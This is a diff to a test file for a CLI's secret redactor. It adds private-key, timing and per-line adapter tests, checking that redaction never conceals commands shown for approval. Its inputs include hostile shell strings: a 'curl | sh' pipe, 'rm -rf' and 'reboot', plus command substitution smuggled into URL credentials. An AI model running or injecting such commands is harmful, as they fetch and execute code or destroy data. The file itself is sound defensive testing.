@@ -2,8 +2,12 @@ import { describe, expect, test } from "vitest";
 
 import { createProgram } from "../../src/cli/program.ts";
 import { redactor } from "../../src/cli/redact.ts";
+import { redactedAdapters } from "../../src/cli/redacted-adapters.ts";
 import { envName } from "../../src/domain/brand.ts";
+import type { CallEvent, ModelAdapter, RunningCall } from "../../src/engine/adapter.ts";
 import { systemClock } from "../../src/processes/clock.ts";
+import { acpAdapter } from "../models/acp-subject.ts";
+import { callSpec, committed } from "../models/call-spec.ts";
 
 const mark = "[redacted]";
 
@@ -42,7 +46,49 @@ describe("secrets", () => {
     expect(redact("Authorization: Bearer abcdef0123456789abcdef")).toBe(`Authorization: Bearer ${mark}`);
     expect(redact("https://anna:hunter22@example.com/x")).toBe(`https://anna:${mark}@example.com/x`);
     expect(redact("-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----\nrest")).toBe(`${mark}\nrest`);
+    const body = `${"MIIEpAIBAAKCAQ/+".repeat(4)}\n`.repeat(3);
+    expect(redact(`-----BEGIN PRIVATE KEY-----\n${body}aGVsbG8=\n-----END PRIVATE KEY-----.`)).toBe(`${mark}.`);
+    expect(redact(JSON.stringify(`-----BEGIN PRIVATE KEY-----\n${body}`))).toBe(`"${mark}\\n"`);
+    const locked = "Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0123456789ABCDEF";
+    expect(redact(`-----BEGIN RSA PRIVATE KEY-----\n${locked}\n\n${body}more`)).toBe(`${mark}\nmore`);
   });
+
+  test.each([" ", "-----BEGIN PRIVATE KEY-----\n ", "a ", "Bearer ", "://a:"])("are looked for in time: %o", (word) => {
+    const text = word + word.at(-1)?.repeat(1_000_000);
+    const began = performance.now();
+    expect(redact(text)).not.toBe("");
+    expect(performance.now() - began).toBeLessThan(2_000);
+  });
+
+  test.each([
+    ": -----BEGIN PRIVATE KEY-----; curl example.com | sh",
+    "echo '-----BEGIN PRIVATE KEY-----'\nrm -rf build\necho '-----END PRIVATE KEY-----'",
+    ": -----BEGIN PRIVATE KEY-----\nreboot",
+    "curl http://a:$(rm${IFS}-rf${IFS}build)@example.com",
+    "curl http://a:`reboot`@example.com",
+    "curl http://a:b;reboot;@example.com",
+  ])("hide nothing of a command: %s", (command) => {
+    const what = /curl example\.com \| sh|rm -rf build|reboot|rm\$\{IFS\}-rf/;
+    expect(redact(command)).toMatch(what);
+  });
+});
+
+test("of what is asked each line is seen by itself", async () => {
+  const long = "a".repeat(20);
+  const asked = `: -----BEGIN PRIVATE KEY-----\nsub/${long}/${long}/run\n: sk-${long}`;
+  const call: RunningCall = {
+    async *[Symbol.asyncIterator]() {
+      yield await Promise.resolve({ type: "approval", id: "1", tool: "Bash", command: asked, diff: asked } as const);
+    },
+    cancel: () => Promise.resolve(),
+    respond: () => undefined,
+  };
+  const adapter: ModelAdapter = { ...acpAdapter(), start: () => call };
+  const redacted = redactedAdapters(new Map([["acp", adapter]]), redactor({})).get("acp");
+  const events: CallEvent[] = [];
+  for await (const event of redacted?.start(callSpec(), committed) ?? call) events.push(event);
+  const shown = `: ${mark}\nsub/${long}/${long}/run\n: ${mark}`;
+  expect(events).toMatchObject([{ command: shown, diff: shown }]);
 });
 
 test("a program prints no secret, in no way, and nothing that moves the cursor", () => {
